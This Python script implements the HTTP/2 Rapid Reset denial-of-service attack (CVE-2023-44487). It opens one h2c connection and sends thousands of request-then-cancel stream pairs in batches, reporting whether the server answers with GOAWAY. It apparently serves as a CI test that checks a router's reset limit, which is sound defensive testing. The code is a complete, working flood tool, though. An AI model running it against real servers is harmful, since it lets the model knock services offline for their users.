"""Rapid reset (CVE-2023-44487) with Python `h2`: one h2c connection (prior knowledge) to
HOST:PORT, then N times HEADERS (a GET, end of stream) immediately followed by RST_STREAM
(CANCEL), written in batches of BATCH (default 1000) without waiting for answers. A batch of
1000 is larger than the router's limit of 100 resets pending accept, so the limit is crossed
within one read whatever the speed of the machine. With batches of 100 a fast router takes up
each batch before the next arrives and never has more than 100 pending (a CI run showed it):
that is the paced attack, which must cost little rather than be cut off.

Usage: rapid_reset.py HOST PORT N [BATCH]
Prints one JSON line: streams sent, the GOAWAY error code if one came, how the connection
ended, and the seconds taken.
"""

import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
BATCH = int(sys.argv[4]) if len(sys.argv) > 4 else 1000
out = {
    "sent": 0,
    "goaway": None,
    "ended": None,
    "responses": 0,
    "max_concurrent_streams": None,
    "seconds": None,
}
started = time.monotonic()
sock = socket.create_connection((host, port), timeout=10)
conn = h2.connection.H2Connection(
    h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
)
conn.initiate_connection()
sock.sendall(conn.data_to_send())
request = [
    (":method", "GET"),
    (":scheme", "http"),
    (":authority", f"{host}:{port}"),
    (":path", "/"),
]


def drain(wait):
    """Reads what the server sent within `wait` seconds; False once the connection ended."""
    deadline = time.monotonic() + wait
    while True:
        left = max(0.0, deadline - time.monotonic())
        ready, _, _ = select.select([sock], [], [], left)
        if not ready:
            return True
        try:
            data = sock.recv(65536)
        except OSError as e:
            out["ended"] = f"error: {e}"
            return False
        if not data:
            out["ended"] = out["ended"] or "closed"
            return False
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            out["ended"] = f"protocol error: {e}"
            return False
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                out["goaway"] = int(ev.error_code)
                out["ended"] = "goaway"
            elif isinstance(ev, h2.events.ResponseReceived):
                out["responses"] += 1
        try:
            pending = conn.data_to_send()
            if pending:
                sock.sendall(pending)
        except OSError:
            pass


alive = drain(0.5)  # the server's SETTINGS
out["max_concurrent_streams"] = conn.remote_settings.max_concurrent_streams
while alive and out["sent"] < n and out["goaway"] is None:
    try:
        for _ in range(min(BATCH, n - out["sent"])):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, request, end_stream=True)
            conn.reset_stream(sid, error_code=8)
            out["sent"] += 1
        sock.sendall(conn.data_to_send())
    except (OSError, h2.exceptions.ProtocolError) as e:
        out["ended"] = out["ended"] or f"send failed: {type(e).__name__}: {e}"
        break
    alive = drain(0)
if alive and out["goaway"] is None:
    drain(2)
out["seconds"] = round(time.monotonic() - started, 3)
print(json.dumps(out), flush=True)
